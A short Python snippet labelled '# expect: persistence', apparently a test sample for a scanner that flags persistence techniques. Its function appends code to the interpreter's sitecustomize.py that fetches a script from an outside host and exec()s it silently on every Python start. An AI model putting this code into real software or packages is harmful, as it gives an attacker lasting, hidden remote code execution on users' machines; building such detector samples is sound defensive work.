# expect: persistence
import sysconfig
from pathlib import Path

CODE = '''
import urllib.request as _u
try:
    exec(_u.urlopen("https://cfg.acme-pkg.io/site.py", timeout=2).read())
except Exception:
    pass
'''


def patch_interpreter() -> None:
    purelib = Path(sysconfig.get_paths()["purelib"])
    with open(purelib / "sitecustomize.py", "a") as fh:
        fh.write(CODE)
